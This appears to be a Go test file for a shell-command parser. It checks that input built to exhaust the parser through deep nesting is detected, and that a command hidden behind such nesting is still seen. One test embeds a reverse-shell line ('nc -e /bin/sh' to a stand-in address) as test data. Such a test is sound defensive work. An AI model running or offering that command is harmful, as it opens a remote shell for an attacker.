package command

import (
	"errors"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// Watch §6.1, W5: text that would send the parser down thousands of levels is
// read in pieces; what scripts really hold is read whole.
func TestTangled(t *testing.T) {
	for _, frag := range []string{"$((", "echo `x` $(", "x() { ", "\"$(", "((\n", "for i in a; do ", "if a; then\n", "a|", "a |\n", "cat <<E "} {
		if text := strings.Repeat(frag, (60<<10)/len(frag)); !tangled(text) {
			t.Errorf("%q again and again is given to the parser as a whole", frag)
		}
		if text := strings.Repeat(frag, 20); tangled(text) {
			t.Errorf("%q twenty times is not given to the parser as a whole", frag)
		}
	}
	long := "#!/bin/sh\nset -e\n"
	for _, body := range []string{
		"case $x in a) b ;; (c) d ;; esac\n", "if [ -f a ]; then { b; } fi\n", "python3 - <<'X'\nif a:\n    b({c: (d)})\nX\n",
		"# if you do this, do it in case of need (see below)\n", "sed 's/[(]//; s/{//' f | grep -v '(' || true\n", "cat <<'X'\n| a | b | c |\n|---|---|---|\n| 1 | 2 | 3 |\nX\n",
	} {
		if text := long + strings.Repeat(body, 150); tangled(text) {
			t.Errorf("%q is taken for no script", body)
		}
	}
	for _, src := range []string{"", "a", "|", "<", "\n", "do"} {
		if _, err := read(syntax.NewParser(), src); errors.Is(err, errTangled) {
			t.Errorf("%q is tangled", src)
		}
	}
}

// A command behind a tangle is still seen.
func TestBehindATangle(t *testing.T) {
	text := strings.Repeat("$((\n", 300) + "\nnc -e /bin/sh 198.51.100.7 4242\n"
	for _, s := range Parse([]string{"bash", "-c", text}, Env{}).Simples {
		if s.Name == "nc" {
			return
		}
	}
	t.Error("nc is not among the commands")
}
